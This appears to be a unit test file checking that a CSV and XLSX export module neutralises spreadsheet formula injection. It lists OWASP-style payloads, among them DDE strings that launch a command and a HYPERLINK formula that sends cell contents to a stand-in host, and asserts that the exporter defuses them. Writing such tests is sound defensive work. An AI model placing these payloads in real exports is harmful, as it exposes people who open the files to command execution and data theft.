import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { toCsv, toXlsx } from './export-writers';
import type { Table } from './export-table';

/** Text Excel would run as a formula, as names came in: OWASP's "CSV injection" forms. */
const HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"点击")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-3+4', '\t=1+2', '\r=1+2'];

const table: Table = {
  columns: [{ header: '姓名', path: ['name'] }, { header: '人数', path: ['count'] }],
  rows: [...HOSTILE.map((name) => ({ name, count: -3 })), { name: '张三', count: 2 }],
};

describe('exports are safe to open in Excel', () => {
  it('CSV: text that begins like a formula is prefixed with a quote; numbers, negative ones too, stay numbers', () => {
    const [, ...rows] = parse(toCsv(table), { bom: true, relax_quotes: true }) as string[][];
    expect(rows.map((r) => r[0])).toEqual([...HOSTILE.map((h) => `'${h}`), '张三']);
    expect(rows.map((r) => r[1])).toEqual([...HOSTILE.map(() => '-3'), '2']);
  });

  it('XLSX: every text cell is a string, never a formula', async () => {
    const zip = await JSZip.loadAsync(await toXlsx(table, 'x'));
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).not.toMatch(/<f[ >]/);
    const strings = await zip.file('xl/sharedStrings.xml')?.async('string');
    expect((strings ?? '') + sheet).toContain('=cmd|');
  });
});
